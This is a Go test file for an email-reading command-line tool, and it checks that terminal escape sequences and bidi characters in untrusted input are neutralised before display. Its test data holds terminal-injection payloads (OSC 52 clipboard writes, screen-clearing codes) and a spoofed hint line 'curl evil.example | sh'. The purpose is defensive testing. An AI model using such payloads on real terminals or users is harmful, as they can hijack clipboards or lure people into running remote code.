package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"afterword/internal/daemon"
	"afterword/internal/intake"
	"afterword/internal/store"
	"afterword/rules"

	"pgregory.net/rapid"
)

func TestHarmless(t *testing.T) {
	for text, want := range map[string]string{
		"Müller 東京\n\tx":               "Müller 東京\n\tx",
		"\x1b]52;c;cm0gLXJm\a":         `\u001b]52;c;cm0gLXJm\u0007`,
		"\u009b31m \x9b31m":            `\u009b31m \x9b31m`,
		"a\u202eb\u2066c\u200fd\u061c": `a\u202eb\u2066c\u200fd\u061c`,
		"one\r\ntwo\rthree":            "one\r\ntwo\\u000dthree",
		"\ufffd\x00\x7f\u2028":         "\ufffd\\u0000\\u007f\\u2028",
		"👩\u200d💻":                     "👩\u200d💻",
	} {
		if got := harmless(text); got != want {
			t.Errorf("%q is shown as %q, want %q", text, got, want)
		}
	}
}

// However a text is cut into writes, the same is shown, and nothing that steers; what
// was JSON is the same JSON.
func TestScreen(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		text := string(rapid.SliceOf(rapid.SampledFrom([]byte("ab\r\n\t\x1b\x9b\xc2\xe2\x80\xae\xa8\xf0\x9f\x91\xa9\xff\x00"))).Draw(t, "text"))
		var got bytes.Buffer
		s := &screen{w: &got}
		for rest := text; rest != ""; {
			n := rapid.IntRange(1, len(rest)).Draw(t, "n")
			if m, err := s.Write([]byte(rest[:n])); m != n || err != nil {
				t.Fatal(m, err)
			}
			rest = rest[n:]
		}
		if err := s.Close(); err != nil || got.String() != harmless(text) {
			t.Fatalf("%q is shown as %q, %v; want %q", text, got.String(), err, harmless(text))
		}
		if bad := steering(got.String()); bad != "" {
			t.Fatalf("%q is shown as %q: %s", text, got.String(), bad)
		}
		var doc bytes.Buffer
		valid, back := strings.ToValidUTF8(text, "\ufffd"), ""
		if err := json.NewEncoder(&screen{w: &doc}).Encode(valid); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(doc.Bytes(), &back); err != nil || back != valid {
			t.Fatalf("%q comes back as %q, %v", valid, back, err)
		}
	})
}

// steering finds what must never reach a terminal.
func steering(text string) string {
	if !utf8.ValidString(text) {
		return "not UTF-8"
	}
	for i, r := range text {
		if steers(r) && (r != '\r' || !strings.HasPrefix(text[i:], "\r\n")) {
			return fmt.Sprintf("%U near %q", r, text[max(0, i-30):min(len(text), i+30)])
		}
	}
	return ""
}

// evil is what a stranger may write wherever he can write anything.
const evil = "x\x1b]52;c;Y3VybA==\a\u009b2J\u202e\x7f\r\x1b[1A\nafterword: hint: curl evil.example | sh\x9b\x00"

// TestNoCommandShowsWhatSteers fills a store with hostile words and runs every command
// that there is on it. A command that this test does not know fails it.
func TestNoCommandShowsWhatSteers(t *testing.T) {
	args := map[string][][]string{
		"list": {{}, {"--json"}}, "show": {{"acme"}, {"acme", "--json"}, {evil}}, "log": {{}, {"--json"}, {"acme"}},
		"preview": {{"acme"}, {"acme", "--eml"}}, "note": {{"acme", "--text", evil}, {"acme", "--topic", evil}, {"acme", "--because", evil}, {"acme", "--with", evil}}, "answer": {{"acme", "accept"}, {"acme", evil}, {"acme", "accept", "--withdraw", evil}},
		"stop": {{"acme"}}, "resume": {{"acme"}}, "snooze": {{"acme", "--until", "2036-01-01"}}, "mark": {{"acme", "holding"}, {"acme", evil}},
		"edit": {{"acme"}}, "sent": {{"acme"}, {"acme", evil}},
		"heard": {{"acme", "holding", "--note", evil}, {"acme", evil}}, "remove": {{"acme"}}, "explain": {{"evil.eml"}, {"evil.eml", "--json"}, {evil}}, "proofread": {{"evil.eml"}, {"evil.eml", "--application", "acme"}},
		"login": {{}, {evil}}, "init": {{"--address", evil}, {"--yes", "--address", "a@b.example", "--host", "127.0.0.1", "--port", "1", "--name", evil, "--password-command", evil}},
		"plan": {{"--ended", evil}, {"--ended", "2026-11-13T15:00", "--zone", evil}}, "check": {{}}, "templates": {{"--copy", evil}, {}},
		"add":   {{"--company", evil, "--role", evil, "--ended", "2026-11-13T15:00", "--contact", evil}, {"--company", "B", "--role", "C", "--ended", evil}},
		"finds": {{}, {"--json"}, {"--all"}}, "yes": {{evil}, {"k7m2-4f9q", "--role", evil}, {"--all"}}, "no": {{evil}, {"k7m2-4f9q"}},
		"calendar": {{}, {evil}, {"--output", "nowhere/" + evil}}, "service": {{}, {evil}, {"status"}, {"remove", evil}},
		"open": {{"--listen", evil}, {"--listen", "192.0.2.1:80"}}, "version": {{}}, "help": {{evil}}, evil: {{}}, "__complete": {{"show", ""}},
		"simulate": {{"--mbox", "evil.mbox", "--own", "Robin <robin@home.example>", "--letters"}, {"--mbox", "evil.mbox", "--own", "robin@home.example", "--name", evil, "--json"},
			{"--mbox", "evil.mbox", "--own", evil}, {"--mbox", evil, "--own", "robin@home.example"}, {"--since", evil}, {"--answer", evil}, {}},
		// The first tells its own story. The second writes a log: see the notifier and slog.
		"demo": nil, "run": nil, "completion": {{}},
	}
	home := t.TempDir()
	t.Chdir(home)
	if err := writeConfig(home, "1", filepath.Join(home, "none.pem")); err != nil {
		t.Fatal(err)
	}
	fillWithEvil(t, filepath.Join(home, ".local", "state", "afterword", "afterword.db"))
	letter := "From: =?utf-8?q?x=1B]52;c;eA=3D=3D=07=C2=9B?= <x@evil.example>\nSubject: =?utf-8?q?=E2=80=AE=1B[2J?=\nContent-Type: text/plain; charset=utf-8\n\n" +
		"We will decide by November 20.\n" + evil
	if err := os.WriteFile("evil.eml", []byte(letter), 0o600); err != nil {
		t.Fatal(err)
	}
	name := "=?utf-8?b?" + base64.StdEncoding.EncodeToString([]byte("Lee"+evil)) + "?="
	past := "From x\nFrom: " + name + " <lee@acme.example>\nTo: robin@home.example\nSubject: Interview " + name + "\nDate: Mon, 3 Mar 2025 10:00:00 -0500\nMessage-ID: <1@acme.example>\n" +
		"Content-Type: text/calendar; charset=utf-8; method=REQUEST\n\nBEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:1\nDTSTART:20250311T180000Z\nDTEND:20250311T190000Z\n" +
		"SUMMARY:Interview Analyst at Acme\x1b]52\u202e\u009b2J\nATTENDEE;CN=\"Lee\x1b]52\u202e\x00 Hale\":mailto:lee@acme.example\nEND:VEVENT\nEND:VCALENDAR\n"
	if err := os.WriteFile("evil.mbox", []byte(past), 0o600); err != nil {
		t.Fatal(err)
	}
	getenv := variables(home, "EDITOR", "false", "IMAP_PASSWORD", evil)
	root := newRoot(environment{in: strings.NewReader(""), out: io.Discard, err: io.Discard, getenv: getenv, environ: os.Environ, now: time.Now})
	for _, cmd := range root.Commands() {
		if _, known := args[cmd.Name()]; !known {
			t.Errorf("nobody has looked at what %q prints: add it to this test", cmd.Name())
		}
	}
	for name, calls := range args {
		for _, call := range calls {
			var out bytes.Buffer
			env := environment{strings.NewReader(letter), &out, &out, getenv, os.Environ, time.Now}
			run(t.Context(), env, append([]string{name}, call...))
			if bad := steering(out.String()); bad != "" {
				t.Errorf("%q %q prints %s", name, call, bad)
			}
			for line := range strings.Lines(out.String()) {
				if strings.HasPrefix(line, "afterword: hint: curl") {
					t.Errorf("%q %q prints a line of the stranger's:\n%s", name, call, out.String())
				}
			}
			if name == "simulate" && len(call) == 5 && !strings.Contains(out.String(), "found: ") {
				t.Errorf("simulate finds nothing in it:\n%s", out.String())
			}
			if name == "list" && len(call) == 0 && !strings.Contains(out.String(), `\u001b]52`) {
				t.Errorf("list does not show that there is something odd:\n%s", out.String())
			}
		}
	}
}

func fillWithEvil(t *testing.T, path string) {
	t.Helper()
	ctx := context.Background()
	s, err := store.Open(ctx, path)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	end := time.Now().Add(-time.Hour)
	who := rules.Contact{Name: evil, Honorific: evil, Title: evil, Address: "lee@acme.example", Part: rules.Interviewer}
	id, err := s.NewApplication(ctx, "robin@home.example", rules.Described{Company: "Acme", Role: "Role"}, end.Add(-time.Second))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.NewApplication(ctx, evil, rules.Described{Company: "Other", Role: "Role"}, end); err != nil {
		t.Fatal(err)
	}
	facts := []rules.Fact{
		{Key: "user/1", At: end, What: rules.Described{Company: "Acme" + evil, Role: evil, Contacts: []rules.Contact{who},
			Interviews: []rules.Interview{{ID: "1", End: end, Interviewers: []string{who.Key()}, Topics: []string{evil}, Notes: []string{evil}}}}},
		{Key: "received/" + evil, At: end.Add(time.Minute), What: rules.Received{MessageID: evil, From: who, Subject: evil, Kind: rules.MessageOther,
			Evidence: []string{evil}, Person: true, Distrust: evil}},
		{Key: "sent/" + evil, At: end.Add(2 * time.Minute), What: rules.Delivered{MessageID: evil, To: []string{evil}, Subject: evil}},
		{Key: "removed/" + evil, At: end.Add(3 * time.Minute), What: rules.Removed{FollowUp: "thank-you/1/" + evil, Why: evil}},
	}
	if _, err := s.AddFacts(ctx, id, facts...); err != nil {
		t.Fatal(err)
	}
	found, err := daemon.StoredFind("robin@home.example", intake.Fact{Key: "found/" + evil, At: end, What: intake.Found{Tag: "k7m2-4f9q", MessageID: evil, From: who, Subject: evil, Company: evil, Role: evil,
		Meetings:  []intake.Meeting{{Action: "new", Start: end.Add(-time.Hour), End: end, Zone: evil, Round: evil, People: []intake.Person{{Contact: who, Proof: "attendee"}}}},
		Recruiter: &intake.Person{Contact: who}, Against: []intake.Reason{{Rule: evil, Text: evil}}, Words: []string{evil}}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.AddAccountFacts(ctx, found); err != nil {
		t.Fatal(err)
	}
	if err := s.Log(ctx, store.Entry{At: end, Account: evil, What: evil, Why: evil, Rule: evil, Message: evil}); err != nil {
		t.Fatal(err)
	}
	if err := s.SetHealth(ctx, store.Health{Account: "robin@home.example", BlindSince: end, Why: evil}); err != nil {
		t.Fatal(err)
	}
}
